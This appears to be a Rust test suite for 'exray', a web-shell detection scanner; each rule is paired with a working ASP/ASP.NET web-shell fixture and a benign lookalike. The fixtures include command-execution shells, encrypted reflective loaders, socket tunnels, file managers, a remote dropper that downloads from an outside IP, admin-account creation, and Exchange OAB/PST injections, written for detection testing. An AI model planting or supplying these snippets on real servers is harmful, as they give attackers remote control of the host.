//! Every built-in rule has a positive and a negative case. The fixtures are written by the
//! exray authors to exercise one behaviour each; none is a copy of a sample. Negatives are
//! realistic benign code that shares surface features with the positive, and must not trip
//! ANY rule.

use std::collections::BTreeSet;
use std::sync::OnceLock;

use exray_core::content::ContentRules;

fn rules() -> &'static exray_yara::YaraRules {
    static R: OnceLock<exray_yara::YaraRules> = OnceLock::new();
    R.get_or_init(|| exray_yara::builtin().expect("built-in rules compile"))
}

fn hits(data: &str) -> BTreeSet<String> {
    let mut s = rules().scanner();
    s.scan("fixture", data.as_bytes())
        .expect("scan")
        .into_iter()
        .map(|h| h.meta.id)
        .collect()
}

/// Minimal base64 encoder for generating encoded payload fixtures.
fn b64(data: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for c in data.chunks(3) {
        let n = (c[0] as u32) << 16
            | (*c.get(1).unwrap_or(&0) as u32) << 8
            | *c.get(2).unwrap_or(&0) as u32;
        for i in 0..4 {
            if i <= c.len() {
                out.push(A[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// A PST header (!BDN ... ) followed by padding and a payload.
fn pst_with(payload: &str) -> String {
    let mut s = String::from("!BDN\u{1}\u{2}SM\u{17}\u{0}");
    s.push_str(&"\u{0}".repeat(500));
    s.push_str(payload);
    s.push_str(&"\u{0}".repeat(100));
    s
}

fn oab_dump(external_url: &str) -> String {
    format!(
        "Name                            : OAB (Default Web Site)\r\n\
         PollInterval                    : 480\r\n\
         OfflineAddressBooks             : \r\n\
         RequireSSL                      : False\r\n\
         BasicAuthentication             : False\r\n\
         WindowsAuthentication           : True\r\n\
         MetabasePath                    : IIS://EX01.corp.example/W3SVC/1/ROOT/OAB\r\n\
         Path                            : C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB\r\n\
         Server                          : EX01\r\n\
         InternalUrl                     : https://ex01.corp.example/OAB\r\n\
         InternalAuthenticationMethods   : {{WindowsIntegrated}}\r\n\
         ExternalUrl                     : {external_url}\r\n\
         ExternalAuthenticationMethods   : {{WindowsIntegrated}}\r\n\
         AdminDisplayVersion             : Version 15.1 (Build 2106.2)\r\n"
    )
}

struct Case {
    rule: &'static str,
    pos: String,
    neg: String,
}

fn case(rule: &'static str, pos: &str, neg: &str) -> Case {
    Case {
        rule,
        pos: pos.to_string(),
        neg: neg.to_string(),
    }
}

fn cases() -> Vec<Case> {
    let enc = b64(br#"eval(Request.Item["cmd"],"unsafe");"#);
    vec![
        case(
            "EXRAY_Eval_Request_Direct",
            "<%@ Page Language=\"JScript\" %>\n<% eval(Request.Item[\"k\"]); %>\n",
            "<script>\nvar request = new XMLHttpRequest();\nvar data = eval(request.responseText);\n</script>\n<% Server.Execute(Request(\"page\")) %>\n",
        ),
        case(
            "EXRAY_JScript_Eval_Unsafe",
            "<%@ Page Language=\"JScript\" %>\n<% var c = Request.Form[\"q\"];\nvar m = \"u\" + \"nsafe\";\nResponse.Write(eval(c, m)); %>\n",
            "<%@ Page Language=\"C#\" %>\n<% var u = System.Web.HttpContext.Current.User; %>\n<asp:Repeater runat=\"server\"><ItemTemplate><%# Eval(\"Date\", \"{0:d}\") %> <%# DataBinder.Eval(Container.DataItem, \"Title\") %></ItemTemplate></asp:Repeater>\n<script language=\"javascript\">\nvar r = eval(data);\nvar m = Math.max(a, b);\n</script>\n",
        ),
        case(
            "EXRAY_VBS_Eval_Request_Variable",
            "<%\nDim p\np = Request(\"z\")\nEval p\n%>\n",
            "<%\nDim name\nname = Request(\"name\")\nResponse.Write Server.HTMLEncode(name)\n%>\n",
        ),
        case(
            "EXRAY_Eval_Decoded_Request",
            &format!(
                "<%@ Page Language=\"JScript\" %>\n<% var s = \"{enc}\";\nvar t = System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(s));\nthis.run(t); %>\n"
            ),
            "<%@ Page Language=\"C#\" %>\n<% var img = Convert.FromBase64String(Request.Form[\"avatar\"]);\nSystem.IO.File.WriteAllBytes(Server.MapPath(\"~/App_Data/a.png\"), img); %>\n",
        ),
        case(
            "EXRAY_ASP_Execute_Decoder",
            "<%\nFunction D(s)\nFor i = 1 To Len(s)\nD = D & Chr(Asc(Mid(s, i, 1)) - 1)\nNext\nEnd Function\nExecute D(\"fwbm!sfrvftu)#y#*\")\n%>\n",
            "<%\nFunction Crlf()\nCrlf = Chr(13) & Chr(10)\nEnd Function\nsql = \"SELECT 1\" & Crlf()\nconn.Execute(BuildSql(\"x\"))\nResponse.Write Pad(Request(\"n\"))\n%>\n",
        ),
        case(
            "EXRAY_ASP_Chr_Keyword_Split",
            "<%\nSet o = Server.CreateObject(\"MSScr\"&chr(105)&\"pt\"&chr(67)&\"ont\"&chr(114)&\"ol\")\n%>\n",
            "<%\ns = \"a\" & Chr(34) & \"b\" & vbCrLf & \"c\" & Chr(13) & Chr(10)\nt = \"x\" & Chr(39) & \"y\" & Chr(9) & \"z\"\n%>\n",
        ),
        case(
            "EXRAY_ASP_Script_Encoded",
            "<%@ LANGUAGE = \"VBScript.Encode\" %>\n<%#@~^FAAAAA==r\"%+$WnKDdn M+A$rAAA==^#~@%>\n",
            "<%@ LANGUAGE = \"VBScript\" %>\n<% Response.Write \"Encoded pages start with #@~ in some tools\" %>\n",
        ),
        case(
            "EXRAY_ASP_UTF7_Codepage",
            "<%@ codepage=65000 %>\n<%\n+AGUAdgBhAGwAKAByAGUAcQB1AGUAcwB0ACgAIgB4ACIAKQApAA-\n%>\n",
            "<%@ codepage=65001 %>\n<% Response.Write \"caf\u{e9}\" %>\n",
        ),
        case(
            "EXRAY_ScriptControl_Request",
            "<%\nSet sc = Server.CreateObject(\"MSScriptControl.ScriptControl\")\nsc.Language = \"VBScript\"\nsc.AddObject \"Request\", Request\nsc.ExecuteStatement Request(\"c\")\n%>\n",
            "<%\nSet sc = Server.CreateObject(\"MSScriptControl.ScriptControl\")\nsc.Language = \"JScript\"\nResponse.Write sc.Eval(\"1+2\")\n%>\n",
        ),
        case(
            "EXRAY_JScript_String_Split_Eval",
            "<%@ Page Language=\"JScript\" %>\n<% var f = \"e\" + \"v\" + \"a\" + \"l\";\nvar g = this[f];\n/* eval through an alias */\ng(Request.Form[\"p\"]); %>\n",
            "<%=\"Hello\"%>\n<script>\nvar greeting = \"he\" + \"llo\";\nvar eval_count = 1;\n</script>\n",
        ),
        case(
            "EXRAY_NET_Reflective_Loader_Request",
            "<%@ Page Language=\"C#\" %>\n<% byte[] k = System.Text.Encoding.Default.GetBytes(\"0123456789abcdef\");\nbyte[] b = System.Convert.FromBase64String(Request.Form[\"p\"]);\nvar a = System.Reflection.Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(b, 0, b.Length));\nSession[\"a\"] = a;\na.CreateInstance(\"X\").Equals(this); %>\n",
            "<%@ Page Language=\"C#\" %>\n<% var asm = System.Reflection.Assembly.Load(\"MyCompany.Plugins\");\nvar t = asm.GetType(\"MyCompany.Plugins.\" + Request[\"plugin\"]);\nResponse.Write(t == null ? \"none\" : t.FullName); %>\n",
        ),
        case(
            "EXRAY_ASP_Decrypt_Request_Execute",
            "<%\nk = \"0123456789abcdef\"\nn = Request.TotalBytes\nd = Request.BinaryRead(n)\nFor i = 1 To n\nr = r & Chr(AscB(MidB(d, i, 1)) Xor Asc(Mid(k, (i And 15) + 1, 1)))\nNext\nExecute r\n%>\n",
            "<%\ndata = Request.BinaryRead(Request.TotalBytes)\nFor i = 1 To LenB(data)\ns = s & Chr(AscB(MidB(data, i, 1)))\nNext\nconn.Execute sql\n%>\n",
        ),
        case(
            "EXRAY_NET_Dynamic_Compile_Request",
            "<%@ Page Language=\"C#\" %>\n<% var p = new Microsoft.CSharp.CSharpCodeProvider();\nvar r = p.CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(), Request.Form[\"src\"]); %>\n",
            "// build helper, not a web page\nvar p = new Microsoft.CSharp.CSharpCodeProvider();\nvar r = p.CompileAssemblyFromSource(parameters, File.ReadAllText(args[0]));\n",
        ),
        case(
            "EXRAY_NET_Process_Start_Cmd",
            "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\npublic class H : System.Web.IHttpHandler {\n public void ProcessRequest(System.Web.HttpContext c) {\n  var psi = new System.Diagnostics.ProcessStartInfo(\"cmd.exe\", \"/c \" + c.Request[\"x\"]);\n  psi.RedirectStandardOutput = true; psi.UseShellExecute = false;\n  c.Response.Write(System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd());\n }\n public bool IsReusable { get { return false; } }\n}\n",
            "<%@ Page Language=\"C#\" %>\n<% var doc = Request[\"doc\"];\nif (doc == \"manual\") System.Diagnostics.Process.Start(Server.MapPath(\"~/help/manual.pdf\")); %>\n",
        ),
        case(
            "EXRAY_ASP_WScript_Shell_Exec",
            "<%\nSet s = CreateObject(\"WScript.Shell\")\nSet e = s.Exec(\"cmd /c \" & Request(\"c\"))\nResponse.Write e.StdOut.ReadAll\n%>\n",
            "<%\nSet s = CreateObject(\"WScript.Shell\")\nv = s.RegRead(\"HKLM\\SOFTWARE\\Example\\Version\")\nResponse.Write Server.HTMLEncode(Request(\"x\")) & v\n%>\n",
        ),
        case(
            "EXRAY_XSLT_Script_Exec",
            "<%\nSet x = Server.CreateObject(\"MSXML2.DOMDocument\")\nx.loadXML \"<r>whoami</r>\"\nSet s = Server.CreateObject(\"MSXML2.DOMDocument\")\ns.loadXML \"<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform' xmlns:msxsl='urn:schemas-microsoft-com:xslt' xmlns:u='urn:u'><msxsl:script language='JScript' implements-prefix='u'>function r(c){return new ActiveXObject('WScript.Shell').Exec(c).StdOut.ReadAll();}</msxsl:script><xsl:template match='/r'><xsl:value-of select='u:r(string(.))'/></xsl:template></xsl:stylesheet>\"\nResponse.Write x.TransformNode(s)\n%>\n",
            "<%@ Page Language=\"C#\" %>\n<% var t = new System.Xml.Xsl.XslCompiledTransform();\nt.Load(Server.MapPath(\"~/App_Data/menu.xslt\"));\nt.Transform(Server.MapPath(\"~/App_Data/menu.xml\"), null, Response.Output); %>\n",
        ),
        case(
            "EXRAY_Shell_Toolkit",
            "<%\n' tools\nSet ws = Server.CreateObject(\"WScript.Shell\")\nsql = \"exec master..xp_cmdshell 'dir'\"\nadd = \"net user admin$ P@ss /add\"\n%>\n",
            "<%\n' help page\nResponse.Write \"Open cmd.exe and run iisreset to restart the web server.\"\n%>\n",
        ),
        case(
            "EXRAY_NET_Registry_Walk",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"Microsoft.Win32\" %>\n<script runat=\"server\">\nvoid Walk() {\n var roots = new RegistryKey[] { Registry.ClassesRoot, Registry.CurrentUser, Registry.LocalMachine, Registry.Users, Registry.CurrentConfig };\n foreach (var r in roots) foreach (var n in r.GetSubKeyNames()) Response.Write(n);\n}\n</script>\n",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"Microsoft.Win32\" %>\n<% var k = Registry.LocalMachine.OpenSubKey(@\"SOFTWARE\\Example\");\nResponse.Write(k.GetValue(\"Version\")); %>\n",
        ),
        case(
            "EXRAY_ASP_ServerVariables_Dump",
            "<table>\n<% For Each v In Request.ServerVariables %>\n<tr><td><%= v %></td><td><%= Request.ServerVariables(v) %></td></tr>\n<% Next %>\n</table>\n",
            "<p>Your address: <%= Request.ServerVariables(\"REMOTE_ADDR\") %></p>\n",
        ),
        case(
            "EXRAY_Tunnel_Socket_Session",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Net.Sockets\" %>\n<% string cmd = Request.Headers[\"X-CMD\"];\nif (cmd == \"CONNECT\") {\n var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n s.Connect(Request.Headers[\"X-TARGET\"], int.Parse(Request.Headers[\"X-PORT\"]));\n Session[\"sock\"] = s;\n} else if (cmd == \"READ\") {\n var s = (Socket)Session[\"sock\"]; var buf = new byte[4096]; int n = s.Receive(buf); Response.BinaryWrite(buf);\n} else if (cmd == \"FORWARD\") {\n var s = (Socket)Session[\"sock\"]; s.Send(Request.BinaryRead(Request.ContentLength));\n} %>\n",
            "<%@ Page Language=\"C#\" %>\n<% using (var c = new System.Net.Sockets.TcpClient()) {\n c.Connect(\"smtp.corp.example\", 25);\n Response.Write(c.Connected ? \"SMTP up\" : \"SMTP down\");\n} %>\n",
        ),
        case(
            "EXRAY_HTTP_Proxy_Request_Url",
            "<%\nu = Request.QueryString(\"url\")\nSet x = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\nx.Open \"GET\", u, False\nx.Send\nResponse.BinaryWrite x.ResponseBody\n%>\n",
            "<%\nSet x = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\nx.Open \"GET\", \"https://intranet.corp.example/news.xml\", False\nx.Send\nResponse.Write Server.HTMLEncode(x.ResponseText)\n%>\n",
        ),
        case(
            "EXRAY_File_Manager_Request",
            "<%\np = Request(\"p\")\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet fo = fso.GetFolder(p)\nFor Each d In fo.SubFolders : Response.Write d.Name : Next\nIf Request(\"a\") = \"del\" Then fso.DeleteFile Request(\"f\")\nIf Request(\"a\") = \"ren\" Then fso.MoveFile Request(\"f\"), Request(\"t\")\nIf Request(\"a\") = \"new\" Then fso.CreateTextFile(Request(\"f\")).Write Request(\"c\")\n%>\n",
            "<%\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet fo = fso.GetFolder(Server.MapPath(\"/docs\"))\nFor Each d In fo.SubFolders\nResponse.Write \"<li>\" & Server.HTMLEncode(d.Name) & \"</li>\"\nNext\n%>\n",
        ),
        case(
            "EXRAY_File_Writer_Request",
            "<%\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.CreateTextFile(Server.MapPath(\"x.asp\"), True)\nf.Write Request(\"c\")\nf.Close\n%>\n",
            "<%\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.CreateTextFile(Server.MapPath(\"log.txt\"), True)\nf.WriteLine Now()\nResponse.Write Server.HTMLEncode(Request(\"c\"))\n%>\n",
        ),
        case(
            "EXRAY_Remote_Dropper",
            "<%\nSet h = Server.CreateObject(\"Microsoft.XMLHTTP\")\nh.Open \"GET\", \"http://203.0.113.9/a.txt\", False\nh.Send\nSet st = Server.CreateObject(\"ADODB.Stream\")\nst.Type = 1 : st.Open : st.Write h.ResponseBody\nst.SaveToFile \"C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\log.aspx\", 2\n%>\n",
            "<%\nSet h = Server.CreateObject(\"Microsoft.XMLHTTP\")\nh.Open \"GET\", \"https://cdn.corp.example/logo.jpg\", False\nh.Send\nSet st = Server.CreateObject(\"ADODB.Stream\")\nst.Type = 1 : st.Open : st.Write h.ResponseBody\nst.SaveToFile Server.MapPath(\"cache/logo.jpg\"), 2\n%>\n",
        ),
        case(
            "EXRAY_NET_Raw_Socket_Sniffer",
            "<%@ Page Language=\"C#\" %>\n<% var s = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork, System.Net.Sockets.SocketType.Raw, System.Net.Sockets.ProtocolType.IP);\ns.Bind(new System.Net.IPEndPoint(System.Net.IPAddress.Parse(Request[\"ip\"]), 0));\ns.IOControl(System.Net.Sockets.IOControlCode.ReceiveAll, new byte[] {1,0,0,0}, null); %>\n",
            "<%@ Page Language=\"C#\" %>\n<% var s = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork, System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp);\ns.Connect(\"127.0.0.1\", 80); %>\n",
        ),
        case(
            "EXRAY_File_Browser_Request",
            "<%@ Page Language=\"C#\" %>\n<% string dir = Request.Params[\"dir\"];\nif (Request.Params[\"file\"] != null) { Response.TransmitFile(Request.Params[\"file\"]); return; }\nforeach (var d in System.IO.Directory.GetDirectories(dir)) Response.Write(d);\nforeach (var f in new System.IO.DirectoryInfo(dir).GetFiles()) Response.Write(f.Name); %>\n",
            "<%@ Page Language=\"C#\" %>\n<% int page = int.Parse(Request[\"page\"] ?? \"1\");\nforeach (var f in System.IO.Directory.GetFiles(Server.MapPath(\"~/images\"))) Response.Write(System.IO.Path.GetFileName(f)); %>\n",
        ),
        case(
            "EXRAY_File_Writer_Variable_Path",
            "<%\np = Request(\"p\")\nc = Request(\"c\")\nSet fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fs.CreateTextFile(p, True)\nf.Write c\nf.Close\n%>\n",
            "<%\nmsg = Request.Form(\"msg\")\nwho = Request.Form(\"who\")\nSet fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fs.OpenTextFile(Server.MapPath(\"guestbook.txt\"), 8, True)\nf.WriteLine Server.HTMLEncode(who & \": \" & msg)\nf.Close\n%>\n",
        ),
        case(
            "EXRAY_SQL_Console_Request",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Run(object o, EventArgs e) {\n using (var c = new System.Data.SqlClient.SqlConnection(txtConn.Text)) {\n  c.Open();\n  var cmd = new System.Data.SqlClient.SqlCommand(txtSql.Text, c);\n  grid.DataSource = cmd.ExecuteReader(); grid.DataBind();\n }\n}\n</script>\n",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Load(object o, EventArgs e) {\n using (var c = new System.Data.SqlClient.SqlConnection(System.Configuration.ConfigurationManager.ConnectionStrings[\"db\"].ConnectionString)) {\n  c.Open();\n  var cmd = new System.Data.SqlClient.SqlCommand(\"SELECT Title FROM Posts WHERE Id = @id\", c);\n  cmd.Parameters.AddWithValue(\"@id\", Request[\"id\"]);\n }\n}\n</script>\n",
        ),
        case(
            "EXRAY_Writable_Folder_Probe",
            "<%\nSub Probe(p)\nSet fo = fso.GetFolder(p)\nFor Each d In fo.SubFolders\nOn Error Resume Next\nfso.CreateTextFile(d.Path & \"\\test.tmp\")\nIf Err = 0 Then Response.Write d.Path & \" writable<br>\"\nfso.DeleteFile(d.Path & \"\\test.tmp\")\nProbe d.Path\nNext\nEnd Sub\n%>\n",
            "<%\nSub Count(p)\nSet fo = fso.GetFolder(p)\nFor Each d In fo.SubFolders\nn = n + d.Files.Count\nNext\nResponse.Write n\nEnd Sub\n%>\n",
        ),
        case(
            "EXRAY_File_Attribute_Tamper",
            "<%\nIf Request(\"k\") = \"1\" Then\nSet fso = CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.GetFile(Request.ServerVariables(\"PATH_TRANSLATED\"))\nf.Attributes = 39\nEnd If\n%>\n",
            "<%\nSet fso = CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.GetFile(Server.MapPath(\"report.txt\"))\nIf f.Attributes And 1 Then Response.Write \"read-only\"\nResponse.Write Server.HTMLEncode(Request(\"q\"))\n%>\n",
        ),
        case(
            "EXRAY_Exchange_OAB_Settings_Shell",
            &oab_dump("http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){/**/}</script>"),
            &oab_dump("https://mail.corp.example/OAB"),
        ),
        case(
            "EXRAY_Exchange_PST_Export_Shell",
            &pst_with("<script language=\"JScript\" runat=\"server\">function Page_Load(){/**/}</script>"),
            &pst_with("Subject: quarterly report\r\nPlease find the figures attached."),
        ),
        case(
            "EXRAY_NET_PowerShell_Runspace",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Management.Automation.Runspaces\" %>\n<% var rs = RunspaceFactory.CreateRunspace(); rs.Open();\nvar p = rs.CreatePipeline(); p.Commands.AddScript(Request.Form[\"ps\"]);\nforeach (var o in p.Invoke()) Response.Write(o); %>\n",
            "// Admin console tool (not a web page)\nusing System.Management.Automation;\nvar ps = PowerShell.Create();\nps.AddCommand(\"Get-ExchangeServer\");\nforeach (var o in ps.Invoke()) Console.WriteLine(o);\n",
        ),
        case(
            "EXRAY_NET_Deserialize_Request",
            "<%@ Page Language=\"C#\" %>\n<% var f = new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter();\nf.Deserialize(Request.InputStream); %>\n",
            "<%@ Page Language=\"C#\" %>\n<% var f = new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter();\nusing (var s = System.IO.File.OpenRead(Server.MapPath(\"~/App_Data/cache.bin\"))) { var o = f.Deserialize(s); }\nResponse.Write(Server.HtmlEncode(Request[\"q\"])); %>\n",
        ),
        case(
            "EXRAY_Upload_Request_Named",
            "<%@ Page Language=\"C#\" %>\n<% if (Request.Files.Count > 0) Request.Files[0].SaveAs(Server.MapPath(\"./\") + Request[\"n\"]); %>\n",
            "<%@ Page Language=\"C#\" %>\n<% var f = Request.Files[0];\nf.SaveAs(Server.MapPath(\"~/uploads/\") + System.IO.Path.GetFileName(f.FileName)); %>\n",
        ),
        case(
            "EXRAY_JScript_Eval_Alias",
            "<script runat=\"server\" language=\"javascript\">\nvar input = String(Request.Form(\"z\"));\nvar table = {'run': eval};\ntable['run'](input);\n</script>\n",
            "<script runat=\"server\" language=\"javascript\">\nvar input = String(Request.Form(\"z\"));\nvar evaluation = { score: 3 };\nResponse.Write(Server.HTMLEncode(input) + evaluation.score);\n</script>\n",
        ),
        case(
            "EXRAY_WebConfig_Handler_Hijack",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration>\n <system.webServer>\n  <handlers accessPolicy=\"Read, Script, Write\">\n   <add name=\"cfg\" path=\"*.config\" verb=\"*\" modules=\"IsapiModule\" scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\" resourceType=\"Unspecified\" />\n  </handlers>\n  <security><requestFiltering><fileExtensions><remove fileExtension=\".config\" /></fileExtensions></requestFiltering></security>\n </system.webServer>\n</configuration>\n<!-- <% Response.Write(CreateObject(\"WScript.Shell\").Exec(Request(\"q\")).StdOut.ReadAll()) %> -->\n",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration>\n <system.webServer>\n  <handlers>\n   <add name=\"ExtensionlessUrl\" path=\"*.\" verb=\"GET,HEAD\" type=\"System.Web.Handlers.TransferRequestHandler\" preCondition=\"integratedMode\" />\n  </handlers>\n </system.webServer>\n <appSettings><add key=\"greeting\" value=\"&lt;%= hello %&gt;\" /></appSettings>\n</configuration>\n",
        ),
    ]
}

#[test]
fn every_rule_has_a_positive_and_a_negative_case() {
    let all: BTreeSet<String> = rules().rule_metas().iter().map(|m| m.id.clone()).collect();
    let covered: BTreeSet<String> = cases().iter().map(|c| c.rule.to_string()).collect();
    let missing: Vec<_> = all.difference(&covered).collect();
    assert!(missing.is_empty(), "rules without test cases: {missing:?}");
    let unknown: Vec<_> = covered.difference(&all).collect();
    assert!(
        unknown.is_empty(),
        "test cases for unknown rules: {unknown:?}"
    );
}

#[test]
fn positives_fire_their_rule() {
    let mut failed = Vec::new();
    for c in cases() {
        let h = hits(&c.pos);
        if !h.contains(c.rule) {
            failed.push(format!("{}: got {h:?}", c.rule));
        }
    }
    assert!(
        failed.is_empty(),
        "positives missed:\n{}",
        failed.join("\n")
    );
}

#[test]
fn negatives_fire_no_rule() {
    let mut failed = Vec::new();
    for c in cases() {
        let h = hits(&c.neg);
        if !h.is_empty() {
            failed.push(format!("negative of {}: {h:?}", c.rule));
        }
    }
    assert!(failed.is_empty(), "negatives fired:\n{}", failed.join("\n"));
}

#[test]
fn obfuscated_one_liner_variants() {
    // Hex escapes of the key and "unsafe" (JScript.NET).
    let hex = "<%@ Page Language=\"JScript\" %><% var v = Request[\"\\x70\\x77\"]; eval(v, \"\\x75\\x6e\\x73\\x61\\x66\\x65\"); %>";
    assert!(hits(hex).contains("EXRAY_JScript_Eval_Unsafe"));
    assert!(hits(hex).contains("EXRAY_JScript_String_Split_Eval"));
    // VBScript one-liner with extra whitespace and a session cache.
    let sess = "<% If Request(\"a\") <> \"\" Then Session(\"a\") = Request(\"a\") : Execute  Session(\"a\") %>";
    assert!(hits(sess).contains("EXRAY_Eval_Request_Direct"));
    // Reversed payload.
    let rev = "<% ExecuteGlobal StrReverse(Request(\"r\")) %>";
    assert!(hits(rev).contains("EXRAY_Eval_Decoded_Request"));
    // Input from a header instead of a parameter.
    let hdr = "<%@ Page Language=\"JScript\" %><% eval(Request.Headers[\"X-Token\"]); %>";
    assert!(hits(hdr).contains("EXRAY_Eval_Request_Direct"));
    // JScript (classic ASP) through a variable, statement ended by a semicolon.
    let var = "<%@ Language=JScript %>\n<% var c = Request.Form(\"c\"); eval(c); %>";
    assert!(hits(var).contains("EXRAY_VBS_Eval_Request_Variable"));
    // JScript.NET under its other names, script block with language before runat.
    let js = "<script language=\"javascript\" runat=\"server\">\nfunction Page_Load() { var k = Request.Form[\"k\"]; var o = \"unsa\" + \"fe\"; eval(k, o); }\n</script>";
    assert!(hits(js).contains("EXRAY_JScript_Eval_Unsafe"));
    let js2 = "<%@ Page Language=\"js\" %>\n<% var k = Request.Form[\"k\"]; eval(k, mode); %>";
    assert!(hits(js2).contains("EXRAY_JScript_Eval_Unsafe"));
    // Client-side JavaScript with a two-argument call to a function named eval is not server code.
    let client = "<html><script language=\"javascript\">\nfunction eval2() {}\nvar r = eval(a, b);\n</script></html>";
    assert!(!hits(client).contains("EXRAY_JScript_Eval_Unsafe"));
    // ASP.NET writer: path and content from text boxes.
    let boxes = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Save(object o, EventArgs e) {\n var w = new System.IO.StreamWriter(txtFile.Text, true);\n w.Write(txtBody.Text);\n w.Close();\n}\n</script>";
    assert!(hits(boxes).contains("EXRAY_File_Writer_Request"));
    // A GIF header in front changes nothing.
    let gif = "GIF89a\n<%eval request(\"i\")%>";
    assert!(hits(gif).contains("EXRAY_Eval_Request_Direct"));
}

#[test]
fn builtin_rules_carry_complete_metadata() {
    let r = rules();
    assert!(r.rule_count() >= 30, "only {} rules", r.rule_count());
    for m in r.rule_metas() {
        assert!(m.id.starts_with("EXRAY_"), "{}", m.id);
        assert!(!m.title.is_empty() && !m.description.is_empty(), "{}", m.id);
        assert_eq!(m.family, exray_core::Family::Generic, "{}", m.id);
        assert_eq!(m.stage, exray_core::Stage::Foothold, "{}", m.id);
        assert!(
            m.attack.iter().any(|a| a == "T1505.003"),
            "{}: {:?}",
            m.id,
            m.attack
        );
    }
}

#[test]
fn hits_carry_offsets_and_escaped_excerpts() {
    let data = "\u{0}\u{1}GIF89a\n<%eval request(\"i\")%>";
    let mut s = rules().scanner();
    let hits = s.scan("x.aspx", data.as_bytes()).unwrap();
    let h = hits
        .iter()
        .find(|h| h.meta.id == "EXRAY_Eval_Request_Direct")
        .expect("hit");
    assert!(!h.matches.is_empty());
    for m in &h.matches {
        let start = m.offset as usize;
        let end = start + m.length as usize;
        assert!(end <= data.len());
        assert!(data[start..end].contains("eval"), "{m:?}");
        assert!(m.excerpt.len() <= 4 * exray_yara::EXCERPT_CAP + 3);
        assert!(!m.excerpt.contains('\n'));
        assert_eq!(m.rule, "EXRAY_Eval_Request_Direct");
    }
}

#[test]
fn scanner_is_reused_across_files() {
    let mut s = rules().scanner();
    for i in 0..50 {
        let pos = format!("<% eval(Request.Item[\"k{i}\"]) %>");
        assert!(!s.scan("p", pos.as_bytes()).unwrap().is_empty());
        assert!(s.scan("n", b"<html>plain</html>").unwrap().is_empty());
    }
}
